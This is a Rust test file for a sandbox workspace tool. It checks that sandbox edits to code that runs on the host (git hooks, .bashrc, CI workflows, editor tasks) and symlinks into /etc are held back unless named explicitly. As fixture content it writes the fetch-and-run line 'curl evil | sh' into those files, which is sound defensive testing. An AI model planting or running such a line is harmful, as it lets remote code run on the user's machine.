use std::path::{Path, PathBuf};

use airlock_workspace::SkipReason;

use super::common::*;

const SENSITIVE: [&str; 4] = [
    ".git/hooks/pre-commit",
    "sub/.bashrc",
    ".github/workflows/x.yml",
    ".vscode/tasks.json",
];

fn layers_with_sensitive_changes() -> Layers {
    let layers = Layers::new();
    mkdir(&layers.lower.join(".git/hooks"));
    mkdir(&layers.lower.join("sub"));
    mkdir(&layers.lower.join(".github/workflows"));
    for path in SENSITIVE {
        write(&layers.upper.join(path), "curl evil | sh\n");
    }
    write(&layers.upper.join("src/main.rs"), "fn main() {}\n");
    layers
}

#[test]
fn diff_flags_code_that_runs_on_host() {
    let layers = layers_with_sensitive_changes();

    for change in layers.diff() {
        let path = change.path.to_str().unwrap();
        let expected = SENSITIVE.contains(&path) || path == ".vscode";
        assert_eq!(change.sensitive, expected, "{path}");
    }
}

#[test]
fn apply_skips_sensitive_changes_unless_named() {
    let layers = layers_with_sensitive_changes();
    let report = airlock_workspace::apply(&layers.lower, &layers.upper, &layers.options()).unwrap();

    assert_eq!(
        report.applied,
        vec![PathBuf::from("src"), PathBuf::from("src/main.rs")]
    );
    for path in SENSITIVE {
        assert!(!layers.lower.join(path).exists(), "{path} was written");
        let skipped = report
            .skipped
            .iter()
            .find(|skipped| skipped.path == Path::new(path));
        assert_eq!(
            skipped.map(|skipped| skipped.reason),
            Some(SkipReason::Sensitive),
            "{path}"
        );
    }
}

#[test]
fn naming_parent_dir_does_not_apply_sensitive_file() {
    let layers = layers_with_sensitive_changes();
    let mut options = layers.options();
    options.paths = vec![PathBuf::from("sub"), PathBuf::from(".")];
    let report = airlock_workspace::apply(&layers.lower, &layers.upper, &options).unwrap();

    assert!(!layers.lower.join("sub/.bashrc").exists());
    assert!(!layers.lower.join(".git/hooks/pre-commit").exists());
    assert!(report.applied.contains(&PathBuf::from("src/main.rs")));
}

#[test]
fn named_sensitive_paths_are_applied() {
    let layers = layers_with_sensitive_changes();
    let mut options = layers.options();
    options.paths = vec![
        PathBuf::from(".git/hooks/pre-commit"),
        PathBuf::from("./sub/.bashrc"),
        PathBuf::from(".github/workflows"),
        PathBuf::from(".vscode"),
    ];
    let report = airlock_workspace::apply(&layers.lower, &layers.upper, &options).unwrap();

    for path in SENSITIVE {
        assert_eq!(read(&layers.lower.join(path)), "curl evil | sh\n", "{path}");
    }
    assert!(!layers.lower.join("src").exists(), "src was not named");
    assert!(report.conflicts.is_empty(), "{:?}", report.conflicts);
    assert!(report.failed.is_empty(), "{:?}", report.failed);
}

#[test]
fn skipped_symlink_keeps_replaced_directory_whole() {
    // The sandbox replaced the directory `lib` with a symlink to /etc: applying the deletion
    // of `lib/util.py` without the symlink would leave the project's `lib` half removed.
    let layers = Layers::new();
    write(&layers.lower.join("lib/util.py"), "x = 1\n");
    link("/etc", &layers.upper.join("lib"));
    let report = airlock_workspace::apply(&layers.lower, &layers.upper, &layers.options()).unwrap();

    assert!(layers.lower.join("lib/util.py").exists(), "{report:?}");
    let reason_of = |path: &str| {
        report
            .skipped
            .iter()
            .find(|skipped| skipped.path == Path::new(path))
            .map(|skipped| skipped.reason)
    };
    assert_eq!(reason_of("lib"), Some(SkipReason::Sensitive));
    assert_eq!(reason_of("lib/util.py"), Some(SkipReason::ParentSkipped));
}
